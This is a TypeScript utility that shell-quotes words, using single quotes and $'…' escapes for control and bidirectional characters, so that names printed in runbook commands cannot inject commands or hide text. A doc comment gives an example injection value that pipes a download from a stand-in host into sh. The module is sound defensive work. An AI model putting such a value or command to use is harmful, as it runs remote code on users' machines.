import { FORMAT_CHARACTERS } from "./terminal";

/**
 * Quoting for the shell lines the product prints (runbook commands, hints): every word that
 * comes from a design — a cluster, context, namespace or file name — goes through `shellWord`,
 * so a name such as `ok-a;curl evil.example|sh` is one argument, never a second command.
 */

/** Characters a POSIX shell passes through unchanged in an unquoted word. */
const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * Characters that must not reach a terminal or a copy-paste buffer raw: C0 and C1 controls,
 * DEL, the line and paragraph separators, and the bidirectional controls and invisible format
 * characters of util/terminal.ts (which make a command read differently from what it runs).
 */
const INVISIBLE = new RegExp(`[\\u0000-\\u001f\\u007f-\\u009f\\u2028\\u2029${FORMAT_CHARACTERS}]`, "u");

const hex = (c: string, width: number) => c.codePointAt(0)!.toString(16).padStart(width, "0");

/**
 * One shell word that the shell reads back as exactly `word`. Plain words stay as they are;
 * others are single-quoted (`'it'\''s'`); a word holding control or invisible characters is
 * written in `$'…'` form (POSIX.1-2024, bash, zsh, ksh) with those characters as `\xHH` /
 * `\uHHHH` / `\UHHHHHHHH` escapes, so the printed line is one visible line with nothing hidden in it. dash
 * (Debian's and Ubuntu's `/bin/sh`) does not read `$'…'`, so a script for `/bin/sh` (probe.sh)
 * must never hold such a word: the game day is refused for names that are not DNS labels
 * (whatif/gameday.ts refuseUnsafeNames), and its other words are addresses and fixed text.
 */
export function shellWord(word: string): string {
  if (PLAIN.test(word)) return word;
  if (!INVISIBLE.test(word)) return `'${word.replace(/'/g, "'\\''")}'`;
  let out = "";
  for (const ch of word) {
    if (ch === "\\" || ch === "'") out += `\\${ch}`;
    else if (INVISIBLE.test(ch)) {
      const cp = ch.codePointAt(0)!;
      out += cp < 0x100 ? `\\x${hex(ch, 2)}` : cp < 0x10000 ? `\\u${hex(ch, 4)}` : `\\U${hex(ch, 8)}`;
    } else out += ch;
  }
  return `$'${out}'`;
}

/** A command line from its words, each quoted with `shellWord`. */
export const shellLine = (words: readonly string[]): string => words.map(shellWord).join(" ");
